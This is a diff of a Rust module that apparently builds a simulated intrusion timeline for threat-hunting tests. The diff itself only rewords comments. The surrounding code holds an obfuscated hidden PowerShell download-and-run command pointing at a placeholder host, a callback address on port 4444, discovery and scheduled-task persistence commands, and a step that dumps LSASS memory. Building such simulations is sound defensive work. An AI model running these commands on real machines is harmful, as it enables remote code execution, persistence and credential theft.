@@ -1,11 +1,11 @@
-//! An intrusion for the nightly hunts: a document on the second of April, and what came of it after the restart on the
-//! third. It is written last and keeps away from everything that the published hunts count.
+//! An intrusion for the nightly hunts: a document on 2 April, and what followed after the restart on 3 April. It is
+//! written last, and uses nothing that the published hunts count.
 
 use super::events::tcp;
 use super::host101::Boot;
 use super::world::{Account, MINUTE, Machine, Millis, ProcessId, SECOND, World, april, program};
 
-/// Whom the intruder's programs talk to.
+/// The address and port that the intruder's programs connect to.
 const REMOTE: (&str, u16) = ("203.0.113.99", 4444);
 
 const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
@@ -18,14 +18,14 @@ const ENCODED: &str = "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC
                        AGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYwBkAG4ALgBlAHgAYQBtAHAA\
                        bABlAC4AbgBlAHQALwBhACcAKQA=";
 
-/// What the first shell runs to find out where it is.
+/// The commands that the first shell runs to explore the machine.
 const DISCOVERY: &[(&str, &str)] = &[
     ("C:\\Windows\\System32\\whoami.exe", "whoami  /groups"),
     ("C:\\Windows\\System32\\systeminfo.exe", "systeminfo"),
     ("C:\\Windows\\System32\\nltest.exe", "nltest  /domain_trusts"),
 ];
 
-/// What the second shell runs to stay.
+/// The commands that the second shell runs for persistence.
 const COMMANDS: &[(&str, &str)] = &[
     (
         "C:\\Windows\\System32\\schtasks.exe",
@@ -41,7 +41,7 @@ pub(super) fn write(world: &mut World, boots: &[Boot; 3]) {
     second_day(world, &boots[1], april(3, 15, 10, 0));
 }
 
-/// A document starts PowerShell, which calls home, looks around and sets itself to start at logon.
+/// A document starts PowerShell, which connects to the intruder, explores the machine, and registers itself to start at logon.
 fn first_day(world: &mut World, boot: &Boot, begin: Millis) {
     let word = program(
         "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
@@ -66,7 +66,7 @@ fn first_day(world: &mut World, boot: &Boot, begin: Millis) {
     }
 }
 
-/// What was set to start at logon does so: it makes a task, a service and an account, and dumps LSASS.
+/// The program registered for logon starts. It makes a task, a service and an account, and dumps the memory of LSASS.
 fn second_day(world: &mut World, boot: &Boot, begin: Millis) {
     let stage = "rundll32.exe C:\\Users\\mkeller\\AppData\\Roaming\\sync.dll,Start";
     let stage = world.spawn(boot.shell, program(RUNDLL, stage, Account::Person), begin);
@@ -96,7 +96,7 @@ fn call_home(world: &mut World, id: ProcessId, time: Millis) {
     world.connect(id, time, tcp(REMOTE.0, REMOTE.1, port));
 }
 
-/// One after the other, twenty seconds apart.
+/// Runs the commands one after the other, twenty seconds apart.
 fn run_all(world: &mut World, parent: ProcessId, commands: &[(&str, &str)], from: Millis) {
     let mut time = from;
     for (image, command) in commands {
